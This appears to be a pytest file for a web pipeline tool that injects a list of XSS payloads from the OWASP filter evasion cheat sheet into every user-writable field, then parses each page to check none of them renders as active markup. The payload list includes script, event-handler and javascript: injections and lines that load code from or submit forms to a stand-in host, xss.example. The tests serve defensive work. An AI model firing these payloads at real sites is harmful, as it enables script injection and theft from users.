"""What others write is text on every page: payloads of the OWASP XSS Filter Evasion Cheat Sheet, wherever they fit.

A page is read as a browser reads it. Whatever of a payload has become an element, an attribute or an address that
does something is found by what pages of ours have: scripts with a file of theirs, no handlers, no other addresses.
"""

from __future__ import annotations

import contextlib
from html.parser import HTMLParser

import pytest

from flowstone import Config, Output, Pipeline, RunFailed, StaticPartitions
from tests.server.walk import asked, filled, routes_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "<style>@import 'http://xss.example/xss.css';</style>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "//xss.example/a",
    "{{ 7 * 7 }}{% raw %}<b>",
    "<form action=//xss.example><input name=a>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<hx-partial hx-target=body hx-get=//xss.example>",
    "<template><script>alert(1)</script></template>",
    "\u2028<script>alert(1)</script>\u2029",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\r\n\r\ndata: <script>alert(1)</script>\n\n",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ALL = " ".join(PAYLOADS).replace("\0", "")
KEYS = [payload for payload in PAYLOADS if "\0" not in payload]


def hostile() -> Pipeline:
    pipeline = Pipeline("p")
    keys = StaticPartitions(KEYS)

    @pipeline.asset(partitions=keys, description=ALL, tags={"team": ALL}, version=ALL)
    def good(context) -> Output[int]:
        print(ALL)
        context.log.warning(ALL, said=ALL)
        context.progress(0.5, ALL)
        return Output(1, metadata={ALL[:50]: ALL, "said": ALL})

    @pipeline.asset(partitions=keys, description=ALL)
    def bad(good: int) -> int:
        raise ValueError(ALL)

    class Told(Config):
        text: str = ""

    @pipeline.asset
    def configured(told: Told) -> int:
        return len(told.text)

    @pipeline.asset
    def waits(context) -> int:
        context.approval(ALL[:40], message=ALL, data={"said": ALL})
        return 1

    pipeline.schedule(KEYS[4], cron="0 6 * * *", asset="waits")
    return pipeline


class Page(HTMLParser):
    """A page as a browser reads it.

    Attributes:
        acts: What in it would do something that no page of ours does.
    """

    def __init__(self, text: str) -> None:
        super().__init__()
        self.acts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        script = given.get("src", "").startswith("/static/") or given.get("type") == "application/json"
        if tag in {"iframe", "object", "embed", "base", "img", "style", "frame", "applet"}:
            self.acts.append(f"<{tag}>")
        if tag == "script" and not script:
            self.acts.append(f"<script {given}>")
        if tag == "meta" and "http-equiv" in given:
            self.acts.append(f"<meta {given}>")
        for name, value in attrs:
            leads = name in {"href", "src", "action", "formaction", "data", "poster", "xlink:href"}
            if name.startswith(("on", "hx-on")) or (name == "style"):
                self.acts.append(f"<{tag} {name}={value}>")
            if (leads or name.startswith("hx-get")) and not leads_here(value or ""):
                self.acts.append(f"<{tag} {name}={value}>")


def leads_here(address):
    return (
        address == ""
        or address.startswith(("#", "?"))
        or (address.startswith("/") and address[1:2] not in {"/", "\\"})
    )


async def written(visitor):
    """Payloads wherever somebody may write: what pages are then asked for."""
    runtime = visitor.runtime
    run = await runtime.submit_backfill("bad", upstream=True, tags={"why": ALL}, by=ALL)
    with contextlib.suppress(RunFailed):
        await run.wait()
    told = await runtime.submit("configured", config={"text": ALL}, tags={"reason": ALL}, by=KEYS[9])
    await told.wait()
    waiting = await runtime.submit("waits", tags={"why": ALL}, by=KEYS[4])
    async for event in waiting.events():
        if event.kind == "run.waiting":
            break
    cancelled = await runtime.submit("waits", tags={ALL[:30]: "x"})
    await cancelled.cancel(by=ALL, reason=ALL)
    await runtime.invalidate("configured", by=KEYS[9], reason=ALL)
    await runtime.pause(KEYS[4], by=ALL, reason=ALL)
    await runtime.resume(KEYS[4], by=ALL)
    await runtime.add_partitions(KEYS[9], [KEYS[4]], by=ALL)
    (approval, *_) = await runtime.approvals()
    common = {"run_id": run.id, "asset": "good", "name": "good", "approval": approval.id, "id": run.id}
    return [
        common | {"partition": KEYS[0], "key": KEYS[0]},
        common
        | {"run_id": waiting.id, "asset": "bad", "name": KEYS[4], "partition": KEYS[9], "key": KEYS[9]},
        common | {"run_id": told.id, "asset": "configured", "name": "configured"},
        common | {"run_id": cancelled.id, "asset": "waits", "name": "waits"},
        dict.fromkeys(common, KEYS[0]) | {"partition": KEYS[11], "key": KEYS[11]},
    ]


TEXTS = {"application/json", "application/problem+json", "application/x-ndjson", "text/plain"}
"""What no browser reads as a page."""

QUERY = (
    "q",
    "status",
    "asset",
    "tab",
    "partition",
    "view",
    "select",
    "filter",
    "tag",
    "theme",
    "focus",
    "run",
    "cursor",
    "by",
)


@pytest.fixture(params=["memory", "postgres"])
def store(request):
    return "memory://" if request.param == "memory" else request.getfixturevalue("database")


async def test_what_others_write_is_text_on_every_page(visit, store):
    """And in every part of it that is sent later, and in every answer of the API."""
    from urllib.parse import quote

    async with visit(hostile(), store=store) as visitor:
        found = await written(visitor)
        seen, acts = 0, {}
        for method, path in routes_of(visitor.app):
            if method != "GET" or path == "/static":
                continue
            for values in found:
                for query in ("", "?" + "&".join(f"{name}={quote(KEYS[9])}" for name in QUERY)):
                    address = filled(path, values) + query
                    answer = await asked(visitor.app, "GET", address)
                    kind = answer.headers.get("content-type", "")
                    assert answer.status < 500, address
                    assert answer.headers["x-content-type-options"] == "nosniff"
                    assert "script-src 'self'" in answer.headers["content-security-policy"]
                    if kind.startswith(("text/html", "text/event-stream")):
                        seen += 1
                        if acting := Page(shown(answer, kind)).acts:
                            acts[address] = acting
                    else:
                        assert kind.partition(";")[0] in TEXTS
        assert acts == {}
        assert seen > 4


def shown(answer, kind):
    """The HTML of a page, or of the first message of its stream."""
    if kind.startswith("text/html"):
        return answer.text
    lines = answer.text.splitlines()
    assert all(line.startswith(("data: ", ":", "event: ", "id: ", "retry: ")) or not line for line in lines)
    return "\n".join(line.removeprefix("data: ") for line in lines)


def test_a_page_with_something_in_it_that_acts_is_found():
    """By the very payloads, if they were not made text."""
    silent = [payload for payload in PAYLOADS if not Page(f"<p>{payload}</p>").acts]
    assert {payload for payload in silent if payload.startswith("<") and "<!--" not in payload} <= {
        "<BODY ONLOAD=alert('XSS')>",
        "<hx-partial hx-target=body hx-get=//xss.example>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    }
    assert Page(f'<a href="{PAYLOADS[22]}">').acts
    assert Page(f'<a href="{PAYLOADS[23]}">').acts
    assert Page(f'<a title="{PAYLOADS[11]}">').acts
